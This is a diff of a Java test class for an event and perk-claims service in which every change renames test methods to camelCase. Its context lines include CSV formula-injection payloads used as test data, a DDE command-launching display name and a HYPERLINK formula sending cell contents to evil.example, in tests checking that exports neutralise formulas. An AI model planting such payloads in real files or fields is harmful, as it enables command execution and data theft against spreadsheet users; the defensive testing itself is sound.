@@ -80,7 +80,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void the_claims_grid_pages_sorts_and_filters_by_status_in_the_database() {
+    void theClaimsGridPagesSortsAndFiltersByStatusInTheDatabase() {
         long event = fixtures.eventIn(manager, "Atelier parfum", 40, 72, false);
         Instant t0 = Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(1, ChronoUnit.DAYS);
         List<Long> members = new ArrayList<>();
@@ -112,7 +112,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void a_name_search_ignores_case_and_accents_and_also_looks_at_the_e_mail() {
+    void aNameSearchIgnoresCaseAndAccentsAndAlsoLooksAtTheEMail() {
         long event = fixtures.eventIn(manager, "Dîner des membres", 10, 72, false);
         fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
         fixtures.claim(alpha.id(), event, marc.accountId(), ClaimStatus.CONFIRMED, null);
@@ -133,7 +133,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void the_csv_export_has_a_header_one_line_per_claim_escaped_cells_utc_dates_and_no_formulas() throws Exception {
+    void theCsvExportHasAHeaderOneLinePerClaimEscapedCellsUtcDatesAndNoFormulas() throws Exception {
         AuthenticatedUser comma = fixtures.person(alpha, Role.MEMBER, "comma@alpha.example", "Dupont, \"Jo\"",
                 Locale.FRENCH);
         AuthenticatedUser formula = fixtures.person(alpha, Role.MEMBER, "formula@alpha.example", "=cmd|' /C calc'!A0",
@@ -167,7 +167,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void the_csv_export_neutralises_a_display_name_a_spreadsheet_would_run_as_a_formula() throws Exception {
+    void theCsvExportNeutralisesADisplayNameASpreadsheetWouldRunAsAFormula() throws Exception {
         String formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click me\")";
         AuthenticatedUser member = fixtures.person(alpha, Role.MEMBER, "hyperlink@alpha.example", formula, Locale.FRENCH);
         long seats = fixtures.coCreation(manager, "Collection 2028", 3);
@@ -186,7 +186,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void the_export_only_has_the_chosen_statuses_and_the_codes_handed_out() throws Exception {
+    void theExportOnlyHasTheChosenStatusesAndTheCodesHandedOut() throws Exception {
         long preview = fixtures.earlyAccess(manager, "Avant-première", "CODE-1", "CODE-2", "CODE-3");
         long claim = fixtures.claim(alpha.id(), preview, helene.accountId(), ClaimStatus.CONFIRMED, null);
         fixtures.assignCode(alpha.id(), preview, claim);
@@ -205,7 +205,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void figures_count_every_status_attendance_places_codes_and_pulses() {
+    void figuresCountEveryStatusAttendancePlacesCodesAndPulses() {
         long event = fixtures.eventIn(manager, "Soirée", 10, 72, true);
         List<Long> confirmed = new ArrayList<>();
         for (int i = 0; i < 6; i++) {
@@ -250,7 +250,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void check_in_marks_a_confirmed_attendee_once_and_adds_attendance_to_their_ledger_once() {
+    void checkInMarksAConfirmedAttendeeOnceAndAddsAttendanceToTheirLedgerOnce() {
         long event = fixtures.eventIn(manager, "Masterclass", 5, 2, false);
         long claim = fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
         TestData.signIn(manager);
@@ -274,7 +274,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void only_confirmed_seats_of_an_event_can_be_checked_in() {
+    void onlyConfirmedSeatsOfAnEventCanBeCheckedIn() {
         long event = fixtures.eventIn(manager, "Masterclass", 5, 2, false);
         long waiting = fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.WAITLISTED, null);
         long cancelled = fixtures.claim(alpha.id(), event, zoe.accountId(), ClaimStatus.CANCELLED, null);
@@ -293,7 +293,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void the_check_in_search_finds_confirmed_attendees_by_name_without_accents_sorted_by_name() {
+    void theCheckInSearchFindsConfirmedAttendeesByNameWithoutAccentsSortedByName() {
         long event = fixtures.eventIn(manager, "Dégustation", 10, 2, false);
         fixtures.claim(alpha.id(), event, zoe.accountId(), ClaimStatus.CONFIRMED, null);
         fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
@@ -308,7 +308,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void selecting_applicants_stops_at_the_number_of_seats_and_each_applicant_learns_the_outcome() {
+    void selectingApplicantsStopsAtTheNumberOfSeatsAndEachApplicantLearnsTheOutcome() {
         long seats = fixtures.coCreation(manager, "Collection 2027", 2);
         AuthenticatedUser ana = fixtures.person(alpha, Role.MEMBER, "ana@alpha.example", "Ana", Locale.ENGLISH);
         long a = fixtures.claim(alpha.id(), seats, helene.accountId(), ClaimStatus.APPLIED, "Passionate");
@@ -344,7 +344,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void the_pulse_interval_defaults_to_thirty_days_and_accepts_one_to_365() {
+    void thePulseIntervalDefaultsToThirtyDaysAndAcceptsOneTo365() {
         TestData.signIn(manager);
         assertThat(operations.pulseIntervalDays()).isEqualTo(30);
         for (int wrong : new int[] {0, -3, 366}) {
@@ -358,7 +358,7 @@ class PerkOperationsTest {
     }
 
     @Test
-    void members_and_ambassadors_cannot_use_the_brand_operations() {
+    void membersAndAmbassadorsCannotUseTheBrandOperations() {
         long event = fixtures.eventIn(manager, "Masterclass", 5, 2, false);
         long claim = fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
         for (AuthenticatedUser person : List.of(helene, marc)) {
